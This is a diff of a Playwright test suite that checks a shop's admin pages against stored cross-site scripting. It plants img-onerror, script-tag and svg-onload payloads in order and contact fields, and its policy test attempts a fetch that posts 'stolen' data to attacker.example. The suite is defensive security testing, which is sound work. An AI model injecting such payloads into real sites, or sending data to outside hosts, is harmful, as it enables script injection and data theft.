@@ -8,11 +8,9 @@ import type { Browser, Page } from 'playwright-core';
 const attacked = runningSystem();
 
 /** Scripts as they are smuggled into text, each telling when it runs. */
-const scripts = [
-  '<img src=x onerror="window.attacked=1">',
-  '<script>window.attacked=2</script>',
-  '"><svg/onload=window.attacked=3>',
-];
+const IMAGE = '<img src=x onerror="window.attacked=1">';
+const TAG = '<script>window.attacked=2</script>';
+const DRAWING = '"><svg/onload=window.attacked=3>';
 
 /** What was put into the shop, by the unique words that identify it. */
 interface Planted {
@@ -21,20 +19,20 @@ interface Planted {
 }
 
 /** Places an order and sends a message with a script in every field that takes text. */
-async function plant(script: string): Promise<Planted> {
+async function plant(): Promise<Planted> {
   const mark = `M${randomBytes(4).toString('hex')}`;
   const email = `${mark.toLowerCase()}@mail.example`;
   const { orderId } = await placeOrder(await productInStock(1), {
-    customerName: `${mark} ${script}`,
+    customerName: `${mark} ${IMAGE}`,
     customerEmail: email,
-    shippingAddress: `12 ${script} Road`,
-    shippingCity: script,
-    productTitle: script,
+    shippingAddress: `12 ${TAG} Road`,
+    shippingCity: DRAWING,
+    productTitle: TAG,
   });
   await systemApi().post('/api/contact', {
-    ...{ firstName: mark, lastName: script, email },
-    subject: `${mark} ${script}`,
-    message: `${script}\n${script}`,
+    ...{ firstName: mark, lastName: TAG, email },
+    subject: `${mark} ${DRAWING}`,
+    message: `${IMAGE}\n${TAG}\n${DRAWING}`,
   });
   return { orderId, mark };
 }
@@ -48,14 +46,14 @@ async function staffNumberOf(mark: string): Promise<number> {
   return data[0]?.id ?? 0;
 }
 
-describe.each(scripts)('a stored %s', (script) => {
+describe('a stored script', () => {
   let browser: Browser;
   let page: Page;
   let planted: Planted;
   const refused: string[] = [];
 
   beforeAll(async () => {
-    planted = await plant(script);
+    planted = await plant();
     browser = await launchBrowser();
     // Through nginx: its policy is the one of the containers.
     const context = await browser.newContext({
@@ -83,24 +81,24 @@ describe.each(scripts)('a stored %s', (script) => {
 
   it('is text on the dashboard', async () => {
     await page.goto('/admin');
-    await expectText(`${planted.mark} ${script}`);
+    await expectText(`${planted.mark} ${IMAGE}`);
   });
 
   it('is text in the table of orders and in the order itself', async () => {
     await page.goto(`/admin/orders?search=${planted.mark}`);
-    await expectText(`${planted.mark} ${script}`);
+    await expectText(`${planted.mark} ${IMAGE}`);
     await page.goto(`/admin/orders?order=${await staffNumberOf(planted.mark)}&step=confirm`);
     await page.getByRole('region', { name: 'Open order' }).waitFor();
-    await expectText(`12 ${script} Road`);
+    await expectText(`12 ${TAG} Road`);
   });
 
   it('is text in the messages', async () => {
     await page.goto('/admin?tab=messages');
     await page.getByRole('tab', { name: 'Messages' }).click();
-    const subject = page.getByText(`${planted.mark} ${script}`).first();
+    const subject = page.getByText(`${planted.mark} ${DRAWING}`).first();
     await subject.waitFor();
     await subject.click();
-    await expectText(script);
+    await expectText(TAG);
   });
 
   it("is text on the buyer's own page", async () => {
@@ -118,11 +116,14 @@ describe('the policy of the pages', () => {
       await page.goto(`http://127.0.0.1:${sitePort(attacked)}/admin/login`);
       const outcome = await page.evaluate(async () => {
         const violations: string[] = [];
+        const reported = Promise.withResolvers<void>();
         // The debugger's own call may use eval whatever the policy says; what comes after it may not.
         await new Promise((resolve) => setTimeout(resolve, 50));
-        addEventListener('securitypolicyviolation', (event) =>
-          violations.push(event.effectiveDirective),
-        );
+        addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+          violations.push(effectiveDirective);
+          const meant = ['connect-src', 'require-trusted-types-for'];
+          if (meant.every((directive) => violations.includes(directive))) reported.resolve();
+        });
         const tried: string[] = [];
         const attempt = (name: string, act: () => void) => {
           try {
@@ -151,16 +152,12 @@ describe('the policy of the pages', () => {
         await fetch('https://attacker.example/', { method: 'POST', body: 'stolen' }).catch(() =>
           tried.push('fetch threw'),
         );
-        // The browser reports them a moment later.
-        await new Promise((resolve) => setTimeout(resolve, 200));
-        return { violations, tried, isAttacked: 'attacked' in window };
+        await reported.promise;
+        return { tried, isAttacked: 'attacked' in window };
       });
       expect(outcome.isAttacked).toBe(false);
       expect(outcome.tried).toEqual(
         expect.arrayContaining(['innerHTML threw', 'eval threw', 'fetch threw']),
-      );
-      expect(outcome.violations).toEqual(
-        expect.arrayContaining(['connect-src', 'require-trusted-types-for']),
       );
     } finally {
       await browser.close();
